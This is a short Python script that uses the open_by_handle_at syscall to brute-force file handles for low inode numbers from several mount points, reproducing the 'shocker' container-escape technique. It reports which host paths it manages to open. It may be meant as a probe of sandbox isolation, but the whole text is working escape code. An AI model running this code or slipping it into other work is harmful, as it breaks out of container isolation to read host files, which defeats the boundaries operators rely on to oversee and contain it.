# Opens files of the host by handle, as "shocker" did: the first inodes of every file system that can be named.
import ctypes, errno, os, struct

libc = ctypes.CDLL(None, use_errno=True)
number = {"x86_64": 304, "aarch64": 265}[os.uname().machine]
opened = set()
answers = set()
for path in ("/", "/etc/hosts", "/etc/resolv.conf", "/proc", "/dev", "/work"):
    mount = os.open(path, os.O_RDONLY)
    for kind in (1, 2, 0x81, 0xFB):
        for inode in (1, 2, 3, 64, 128, 256):
            handle = ctypes.create_string_buffer(struct.pack("Ii", 8, kind) + struct.pack("II", inode, 0) + bytes(64))
            answer = libc.syscall(ctypes.c_long(number), ctypes.c_long(mount), ctypes.byref(handle), ctypes.c_long(0))
            if answer >= 0:
                opened.add(os.readlink(f"/proc/self/fd/{answer}"))
                os.close(answer)
            else:
                answers.add(errno.errorcode[ctypes.get_errno()])
    os.close(mount)
print("opened:", sorted(opened), "refused with:", *sorted(answers))
